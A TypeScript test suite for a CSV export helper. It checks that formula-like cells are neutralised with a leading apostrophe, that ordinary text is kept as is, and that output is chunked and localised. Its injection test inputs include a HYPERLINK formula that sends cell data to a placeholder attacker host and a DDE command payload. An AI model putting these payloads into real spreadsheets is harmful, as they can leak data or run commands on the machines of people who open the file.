import { setImmediate } from 'node:timers/promises'
import { parse } from 'csv-parse/sync'
import { countTurns } from '@/lib/testing/event-loop-turns'
import { csv, csvResponse } from './csv'
import { inLanguage, spokenLocale } from './say'

async function* once<Row>(rows: Row[]) {
  yield rows
}

async function made(cells: string[]): Promise<string[]> {
  let text = ''
  const columns = { first: ([cell]: string[]) => cell, second: ([, cell]: string[]) => cell }
  for await (const piece of csv(columns, once([cells]), () => null)) text += piece
  const [, row = []] = parse(text, { bom: true, relax_column_count: true }) as string[][]
  return row
}

test.each([
  ...['=1+1', '+880 1711', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '＝1+1', '＋1', '－1', '＠SUM(A1)'],
  ...['=HYPERLINK("https://evil.example?"&A1,"x")', "=cmd|' /C calc'!A0", '@import'],
])('%j opens as a text and not as a formula', async (cell) => {
  const [kept] = await made([cell, 'beside'])
  expect(kept).toBe(`'${cell}`)
})

test.each(['Rahima', '01711', "O'Brien", 'a=b', 'a,b;c"d', 'two\nlines', 'ক্ষ্ম্য', ''])(
  '%j is written as it is',
  async (cell) => {
    expect(await made([cell, 'beside'])).toEqual([cell, 'beside'])
  },
)

test('a line break within a cell begins no row', async () => {
  expect(await made(['a\r\n=1+1', 'beside'])).toEqual(['a\r\n=1+1', 'beside'])
})

test('a long table is written in chunks, with the event loop free in between', async () => {
  const rows = Array.from({ length: 500 }, (_, at) => at)
  const columns = { number: (at: number) => at, text: () => 'a'.repeat(1000) }
  const { done, turns } = await countTurns(async () => {
    const pieces: string[] = []
    for await (const piece of csv(columns, once(rows), () => null)) pieces.push(piece)
    return pieces
  })
  expect(turns).toBeGreaterThan(20)
  expect(Math.max(...done.map((piece) => piece.length))).toBeLessThan(30_000)
  expect(parse(done.join(''), { bom: true })).toHaveLength(501)
})

test('cells are made in the language of whoever asked, although the response is read outside of the call', async () => {
  const columns = { language: () => spokenLocale() }
  const response = inLanguage('bn-BD', () =>
    csvResponse(
      'table',
      csv(columns, once([null, null]), () => null),
    ),
  )
  // The head is made at once; what follows, once it is read.
  await setImmediate()
  const text = await response.text()
  expect(text.trim().split('\r\n').slice(1)).toEqual(['bn', 'bn'])
})
